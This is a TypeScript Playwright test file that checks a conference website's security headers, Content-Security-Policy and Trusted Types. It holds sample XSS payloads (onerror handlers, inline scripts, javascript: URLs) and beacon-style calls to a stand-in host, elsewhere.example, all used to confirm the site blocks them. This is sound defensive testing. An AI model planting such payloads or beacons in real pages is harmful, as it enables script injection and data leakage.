import type { Page } from 'playwright-core';
import { describe, expect, inject } from 'vitest';
import { isDeep } from '../scale.ts';
import { ROUTES } from '../site-facts.ts';
import { startServer } from '../start-server.ts';
import { alive, test as base, CALM, closeProfile } from './visitor.ts';

/** Pages note what they refuse, from the start of each. */
const test = base.extend<{ page: Page; victim: Page }>({
  page: async ({ page }, use) => {
    const script = await page.addInitScript(listen);
    await use(page);
    await script.dispose();
  },
  // what is refused changes nothing, so that one page is enough for all attempts
  victim: [
    async ({ browser }, use) => {
      const context = await browser.newContext({ serviceWorkers: 'block' });
      const page = await context.newPage();
      await page.goto(`${inject('origin')}/committees/unsc`);
      await alive(page);
      await use(page);
      await closeProfile(context);
    },
    { scope: 'file' },
  ],
});

/** What the page has refused so far, as `directive blocked`. */
const refused = (page: Page) => page.evaluate(() => [...(window as unknown as Noting).refused.keys()]);

/** How often it was refused: once by each of the two policies, that of the document and that of the answer. */
const reports = (page: Page) => page.evaluate(() => [...(window as unknown as Noting).refused]);

interface Noting {
  refused: Map<string, number>;
}

/** Notes what the page that is open refuses from now on. */
function note(page: Page): Promise<void> {
  return page.evaluate(listen);
}

function listen(): void {
  const noted = new Map<string, number>();
  (window as unknown as Noting).refused = noted;
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    const what = `${effectiveDirective} ${blockedURI}`;
    noted.set(what, (noted.get(what) ?? 0) + 1);
  });
}

test('every answer of the service has the headers that the build wrote for static hosts', async ({
  origin,
}) => {
  const file = await (await fetch(`${origin}/_headers`)).text();
  // the rules after the first are about caching
  const [all = ''] = file.split(/^(?=\/[^*])/m);
  const list = [...all.matchAll(/^ {2}([\w-]+): (.+)$/gm)].map(([, name = '', value]) => [name, value]);
  expect(list.map(([name]) => name)).toEqual([
    'Content-Security-Policy',
    'X-Content-Type-Options',
    'Referrer-Policy',
    'Permissions-Policy',
    'Cross-Origin-Opener-Policy',
    'Cross-Origin-Resource-Policy',
    'Strict-Transport-Security',
  ]);
  const answers = [
    ...Object.keys(ROUTES).map((route) => fetch(origin + route)),
    ...['/index.json', '/sw.js', '/robots.txt', '/not-there', '/%'].map((file) => fetch(origin + file)),
    ...['POST', 'DELETE', 'PUT'].map((method) => fetch(`${origin}/mail`, { method })),
  ];
  for (const { url, headers } of await Promise.all(answers)) {
    // it is read by browsers of http://, and says nothing of TLS
    const sent = list.map(([name = '']) => [name, headers.get(name)]);
    expect(sent, url).toEqual(
      list.map(([name, value]) => [name, name === 'Strict-Transport-Security' ? null : value]),
    );
  }
});

// that no page needs what its policy refuses is in pages.test.ts: the browser reports a refusal as an error
test('each page says its policy itself', async ({ origin }) => {
  for (const route of [...Object.keys(ROUTES), '/not-there']) {
    const html = await (await fetch(origin + route)).text();
    const [, own] = /<head>.*?<meta http-equiv="Content-Security-Policy" content="([^"]*)"/s.exec(html) ?? [];
    expect(own, route).toMatch(
      /^default-src 'none'; style-src 'self' 'sha256-[\w+/]{43}='; script-src 'self'; /,
    );
    expect(own, route).not.toMatch(/unsafe|\*|data:|http:/);
  }
});

test('a visitor goes by script through pages of all kinds, back and forth, and nothing is refused', async ({
  page,
  trouble,
}) => {
  await page.goto('/');
  await alive(page);
  await page.evaluate(() => Object.assign(window, { stayed: true }));
  const go = async (name: string, heading: string) => {
    await page.getByRole('link', { name, exact: true }).first().click();
    await page.getByRole('heading', { level: 1, name: heading }).waitFor();
    await alive(page);
  };
  await go('Committees', 'Committees');
  await page.locator('#ccc').getByRole('link').first().click();
  await page.getByRole('heading', { level: 1, name: 'CCC' }).waitFor();
  await alive(page);
  for (const [name, heading] of [
    ['Secretariat', 'Secretariat'],
    ['Registration', 'Registration'],
    ['Resources', 'Delegate Resources'],
    ['OC login', 'Login'],
  ] as const)
    await go(name, heading);
  await page.goBack();
  await page.getByRole('heading', { level: 1, name: 'Delegate Resources' }).waitFor();
  await page.goForward();
  await page.getByRole('heading', { level: 1, name: 'Login' }).waitFor();
  await page.getByRole('button', { name: 'Toggle' }).click();
  await expect.poll(() => page.getByLabel('Password').getAttribute('type')).toBe('text');
  expect(await refused(page)).toEqual([]);
  expect(await page.evaluate(() => 'stayed' in window)).toBe(true);
  expect(trouble).toEqual(CALM);
});

test('our service worker is registered under the policy, and no other', async ({ open }) => {
  const page = await open({ serviceWorkers: 'allow' });
  await page.addInitScript(listen);
  await page.goto('/');
  await alive(page);
  const script = await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL);
  expect(script).toMatch(/\/sw\.js$/);
  expect(await refused(page)).toEqual([]);
  const another = page.evaluate(() => navigator.serviceWorker.register('/assets/another.js'));
  await expect(another).rejects.toThrow('TrustedScriptURL');
});

/** Where a script that got in would write that it ran. */
interface Attacked {
  attacked?: true;
  trustedTypes: { createPolicy: (name: string, rules: object) => void };
}

const SINK = 'require-trusted-types-for trusted-types-sink';

/** What a script that is not ours would do in a page, and what refuses it. */
const DEEDS: [name: string, by: string, deed: () => unknown][] = [
  [
    'puts HTML into the page',
    SINK,
    () => {
      document.body.innerHTML = '<img src="/x" onerror="attacked = true">';
    },
  ],
  ['adds HTML to the page', SINK, () => document.body.insertAdjacentHTML('beforeend', '<b>hello</b>')],
  [
    'writes a frame',
    SINK,
    () => {
      document.createElement('iframe').srcdoc = '<b>hello</b>';
    },
  ],
  ['writes an event handler', SINK, () => document.body.setAttribute('onclick', 'attacked = true')],
  [
    'writes a script',
    SINK,
    () => document.head.appendChild(document.createElement('script')).append('attacked = true'),
  ],
  [
    'makes a policy of its own',
    'trusted-types trusted-types-policy',
    () => (window as unknown as Attacked).trustedTypes.createPolicy('another', {}),
  ],
  [
    'makes our policy once more',
    'trusted-types trusted-types-policy',
    () => (window as unknown as Attacked).trustedTypes.createPolicy('plenary', {}),
  ],
  [
    'writes a style sheet',
    'style-src-elem inline',
    () => document.head.appendChild(document.createElement('style')).append('body { opacity: 0 }'),
  ],
  [
    'writes a style attribute',
    'style-src-attr inline',
    () => document.body.setAttribute('style', 'opacity: 0'),
  ],
  [
    'goes to an address that is a script',
    'script-src-elem inline',
    () => {
      location.href = 'javascript:attacked = true';
    },
  ],
  [
    'moves all addresses elsewhere',
    'base-uri https://elsewhere.example/',
    () => {
      document.head.appendChild(document.createElement('base')).href = 'https://elsewhere.example/';
    },
  ],
  [
    'tells somebody else by a picture',
    'img-src https://elsewhere.example/?reported',
    () => {
      new Image().src = 'https://elsewhere.example/?reported';
    },
  ],
  [
    'tells somebody else',
    'connect-src https://elsewhere.example/?reported',
    () => fetch('https://elsewhere.example/?reported'),
  ],
  [
    'sends a form elsewhere',
    'form-action https://elsewhere.example/?',
    () => {
      const form = document.body.appendChild(document.createElement('form'));
      form.action = 'https://elsewhere.example/';
      form.submit();
    },
  ],
  [
    'shows another site in a frame',
    'frame-src https://elsewhere.example',
    () => {
      document.body.appendChild(document.createElement('iframe')).src = 'https://elsewhere.example/';
    },
  ],
];

describe('a script that is not ours is refused when it', () => {
  test.for(DEEDS)('%s', async ([, by, deed], { victim }) => {
    const asked: string[] = [];
    const elsewhere = 'https://elsewhere.example/**';
    await victim.route(elsewhere, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await note(victim);
    // some are refused by an error, the others without a word
    await victim.evaluate(deed).catch(() => {});
    // a report that comes later would be of the next test
    await expect.poll(() => reports(victim)).toEqual([[by, 2]]);
    await expectUnharmed(victim);
    expect(asked).toEqual([]);
    await victim.unroute(elsewhere);
  });
});

const MARKUP = `<p style="opacity: 0">hello</p><style>body { opacity: 0 }</style>
<img src="/x" onerror="attacked = true"><script>attacked = true</script>
<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>`;

test('markup that is not ours is refused in a document', async ({ page }) => {
  await page.route('**/committees/unsc', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<main', () => `${MARKUP}<main`) });
  });
  await page.goto('/committees/unsc');
  await alive(page);
  await expect
    .poll(async () => (await refused(page)).sort())
    .toEqual([
      'script-src-attr inline',
      'script-src-elem inline',
      'style-src-attr inline',
      'style-src-elem inline',
    ]);
  await expectUnharmed(page);
});

test('markup that is not ours is refused in a page that comes by script', async ({ page }) => {
  await page.route('**/committees/unsc.json', async (route) => {
    const response = await route.fetch();
    const json = await response.json();
    await route.fulfill({ json: { ...json, html: [MARKUP + json.html[0], json.html[1]] } });
  });
  await page.goto('/committees');
  await alive(page);
  await page.locator('#unsc').getByRole('link').first().click();
  await page.getByRole('heading', { level: 1, name: 'UNSC' }).waitFor();
  // no browser runs script elements that come so
  await expect
    .poll(async () => (await refused(page)).sort())
    .toEqual(['script-src-attr inline', 'style-src-attr inline', 'style-src-elem inline']);
  await expectUnharmed(page);
});

test('no text becomes a script, not even in a script of ours', async ({ page }) => {
  // what a test evaluates itself may do so
  await page.route('**/assets/start-*.js', async (route) => {
    const response = await route.fetch();
    const tries = "try { eval('window.attacked = true') } catch (error) { window.reported = error.name }";
    await route.fulfill({ response, body: `${await response.text()};${tries}` });
  });
  await page.goto('/');
  await alive(page);
  expect(await page.evaluate(() => (window as unknown as { reported: string }).reported)).toBe('EvalError');
  await expectUnharmed(page);
});

async function expectUnharmed(page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as Attacked).attacked)).toBeUndefined();
  expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe('1');
}

test('no other site shows ours in a frame', async ({ page, origin }) => {
  const other = await startServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${origin}/login"></iframe>`);
  });
  const said = page.waitForEvent('console', (message) => message.text().includes("frame-ancestors 'none'"));
  await page.goto(other.origin);
  await said;
  await expect.poll(() => page.frameLocator('iframe').getByLabel('Password').count()).toBe(0);
  await page.goto('about:blank');
  await other.close();
});

test('a frame holds the sites that site.yaml embeds, and none that they would lead to', async ({ page }) => {
  const answers = (body: string) => ({ contentType: 'text/html', body });
  await page.route(/^https:\/\/docs\.google\.com\//, (route) => route.fulfill(answers('the sheet')));
  await page.route('https://elsewhere.example/', (route) => route.fulfill(answers('another site')));
  await page.goto('/committees/unsc');
  await alive(page);
  await page.getByRole('button', { name: 'Show the live sheet' }).click();
  await page.frameLocator('iframe').getByText('the sheet').waitFor();
  expect(await refused(page)).toEqual([]);
  await page.locator('iframe').evaluate((frame: HTMLIFrameElement) => {
    frame.src = 'https://elsewhere.example/';
  });
  await expect.poll(() => refused(page)).toEqual(['frame-src https://elsewhere.example']);
  await expect.poll(() => page.frameLocator('iframe').getByText('another site').count()).toBe(0);
});

if (isDeep)
  test('a browser without Trusted Types has the same site', async ({ open, trouble }) => {
    const page = await open();
    await page.addInitScript(() => {
      Object.defineProperty(window, 'trustedTypes', { value: undefined });
    });
    await page.route(/\/[^./]*$/, async (route) => {
      const response = await route.fetch();
      const known = (policy = '') =>
        policy.replace(/require-trusted-types-for 'script'; trusted-types plenary/, '');
      const headers = {
        ...response.headers(),
        'content-security-policy': known(response.headers()['content-security-policy']),
      };
      await route.fulfill({ response, headers, body: known(await response.text()) });
    });
    await page.goto('/');
    await alive(page);
    await page.getByRole('banner').getByRole('link', { name: 'Committees' }).click();
    await page.getByRole('heading', { level: 1, name: 'Committees' }).waitFor();
    await alive(page);
    expect(trouble).toEqual(CALM);
  });
